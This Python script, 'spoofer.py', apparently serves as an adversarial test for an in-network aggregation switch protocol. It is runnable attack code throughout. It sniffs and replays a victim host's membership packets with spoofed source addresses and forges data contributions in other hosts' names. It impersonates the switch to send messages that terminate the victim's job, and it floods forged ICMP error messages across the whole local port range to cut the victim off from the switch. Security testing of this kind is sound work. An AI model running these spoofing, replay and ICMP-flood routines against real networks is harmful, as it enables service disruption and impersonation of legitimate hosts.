# SPDX-License-Identifier: BSD-2-Clause
"""A host without the key of a job that others run, and a false switch.

spoofer.py capture FILE            where rank 0 is: writes down what it says of its membership
spoofer.py attack FILE JOB COUNT   elsewhere: says it again, and sends COUNT elements in the others' names
spoofer.py false-switch FILE       where the switch is: ends rank 0's job, in the switch's name
spoofer.py icmp SECONDS            elsewhere: tells rank 0's host, and the switch's, that what they send each other does not arrive
"""

import json
import os
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

from intruder import FIELDS, PORT, VICTIM, contribution, internet_checksum, running_generation

JOIN, LEAVE, CONFIG, REFUSED = 4, 5, 8, 9
KEY, CHALLENGE, REPLACED, NO_JOB = 34, 35, 25, 6
HEADER = 64
BODY = struct.Struct("!QHHH")  # struct inagg_join: nonce, size, elements, receive port
MASK = (1 << 64) - 1
OTHER = "10.77.0.11"  # rank 1's host


def kind_of(packet):
    return packet[0] & 0xf if len(packet) == HEADER + 40 else 0


def fold(order, total):
    x = order
    x ^= x >> 32
    x = x * 0x9e3779b97f4a7c15 & MASK
    x ^= x >> 32
    x = x + total & MASK
    x ^= x >> 32
    x = x * 0xc2b2ae3d27d4eb4f & MASK
    return (x ^ x >> 32) & 0xffffffff


def digest(data):
    total = order = 0
    for word in struct.unpack(f"<{len(data) // 4}I", data):
        total = total + word & MASK
        order = order + total & MASK
    return fold(order, total)


def sealed(packet):
    """The packet with both checksums: neither needs a key."""
    header = bytearray(packet[:HEADER])
    header[3] |= 1 << 4  # CHECKED
    header[42:48] = bytes(6)
    header[44:48] = struct.pack("<I", digest(bytes(header)) + digest(packet[HEADER:]) & 0xffffffff)
    header[42:44] = struct.pack("!H", internet_checksum(bytes(header)))
    return bytes(header) + packet[HEADER:]


def membership(kind, job, rank, body, generation=0, reason=0, check=bytes(16)):
    header = FIELDS.pack(1 << 4 | kind, 0, 0, job, generation, 0, reason, 0, 0, rank, 1, 2, 1 << rank, 0, 0, 0, 0, 0, 0, 0, 0, check)
    return sealed(header + body.ljust(40, b"\0"))


def ip_datagram(source, target, source_port, port, packet):
    udp = struct.pack("!HHHH", source_port, port, 8 + len(packet), 0) + packet

    def header(checksum):
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, socket.IPPROTO_UDP, checksum,
                           socket.inet_aton(source), socket.inet_aton(target))

    return header(internet_checksum(header(0))) + udp


def capture(file):
    """Packets of rank 0's membership, a line each."""
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    with file.open("w", buffering=1) as out:
        while True:
            packet = sniffer.recv(4096)[20 + 8:]  # IPv4, UDP
            if kind_of(packet) in (JOIN, LEAVE):
                out.write(packet.hex() + "\n")


def captured(file):
    return [bytes.fromhex(line) for line in file.read_text().splitlines()] if file.exists() else []


def latest_join(file):
    """Nonce and receive port of rank 0's latest JOIN."""
    joins = [packet for packet in captured(file) if kind_of(packet) == JOIN]
    if not joins:
        return None
    nonce, _, _, port = BODY.unpack_from(joins[-1], HEADER)
    return nonce, port


def false_switch(file):
    """To whoever is rank 0 now: the job has ended, or is another one."""
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while True:
        time.sleep(0.002)
        known = latest_join(file)
        if not known:
            continue
        nonce, port = known
        body = BODY.pack(nonce, 2, 352, port)
        job = struct.unpack_from("!H", captured(file)[-1], 4)[0]
        config = struct.pack("!QHHIIBBH", nonce, 2, 32, 2, 2, 0, 0, 0)
        for packet in (membership(REFUSED, job, 0, body, reason=REPLACED), membership(REFUSED, job, 0, body, reason=NO_JOB),
                       membership(REFUSED, job, 0, body, reason=CHALLENGE, check=b"\x66" * 16),
                       membership(CONFIG, job, 0, config, generation=1)):
            wire.sendto(ip_datagram(os.environ.get("INAGG_SWITCH", "10.77.0.1"), VICTIM, PORT, port, packet), (VICTIM, 0))


def reason_for(packet, port):
    """That of the REFUSED which answers the packet, sent from here; it must not be proof of anything by itself."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.bind(("", port))
    sender.settimeout(2)
    for _ in range(20):
        sender.sendto(packet, (os.environ["INAGG_SWITCH"], PORT))
        try:
            answer = sender.recv(4096)
        except socket.timeout:
            continue
        if kind_of(answer) == REFUSED:
            return struct.unpack_from("!I", answer, 12)[0], any(answer[56:64])
    return None, None


def show(job):
    return json.loads(subprocess.run(["inaggctl", "--json", "job", "show", str(job)], capture_output=True, text=True,
                                     check=True).stdout)


def attack(file, job, count):
    generation = running_generation(job)
    before = show(job)
    victim = latest_join(file)
    switch = os.environ["INAGG_SWITCH"]
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    said = {}
    for rank in (0, 1):  # a rank's place
        said[f"join {rank}"] = reason_for(membership(JOIN, job, rank, BODY.pack(4711 + rank, 2, 352, 5555)), 5555)
    copies = [packet for packet in captured(file) if kind_of(packet) in (JOIN, LEAVE)]
    said["copy"] = reason_for([packet for packet in copies if kind_of(packet) == JOIN][-1], victim[1])
    leave = membership(LEAVE, job, 0, BODY.pack(victim[0], 2, 352, victim[1]), generation=generation)
    for packet in [*copies, leave] * 20:  # from rank 0's address
        wire.sendto(ip_datagram(VICTIM, switch, victim[1], PORT, packet), (switch, 0))
    elements = [contribution(job, generation, rank=rank, slot=slot) for rank in (0, 1) for slot in range(128)]
    forged = [ip_datagram((VICTIM, OTHER)[rank], switch, 5555, PORT, elements[rank * 128 + slot])
              for rank in (0, 1) for slot in range(128)]
    for number in range(count):
        wire.sendto(forged[number % len(forged)], (switch, 0))
    for number in range(10000):
        wire.sendto(ip_datagram(VICTIM, switch, 5555, PORT, membership(JOIN, job, 0, BODY.pack(number + 1, 2, 352, 5555))),
                    (switch, 0))
    same = show(job)["members"] == before["members"] and running_generation(job) == generation
    print(json.dumps({"said": said, "copies": len(copies), "same_members": same}))


COMPLAINTS = {"packet too long": (3, 4, 600), "no such protocol": (3, 2, 0), "bad header": (12, 0, 0)}  # type, code, MTU


def icmp(kind, code, mtu, datagram):
    def message(checksum):
        return struct.pack("!BBHI", kind, code, checksum, mtu) + datagram[:28]

    return message(internet_checksum(message(0)))


def tell_of_errors(seconds):
    """From an address of its own, as any router on the way might."""
    switch = os.environ["INAGG_SWITCH"]
    first, last = map(int, Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split())  # as on rank 0's host
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    said, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        for complaint in COMPLAINTS.values():
            for port in range(first, last + 1):
                wire.sendto(icmp(*complaint, ip_datagram(VICTIM, switch, port, PORT, bytes(1400))), (VICTIM, 0))
            wire.sendto(icmp(*complaint, ip_datagram(switch, VICTIM, PORT, first, bytes(1400))), (switch, 0))
        said += 1
    print(json.dumps({"rounds": said}))


if __name__ == "__main__":
    mode, value, *rest = sys.argv[1:]
    act, kind = {"capture": (capture, Path), "attack": (attack, Path), "false-switch": (false_switch, Path),
                 "icmp": (tell_of_errors, float)}[mode]
    act(kind(value), *map(int, rest))
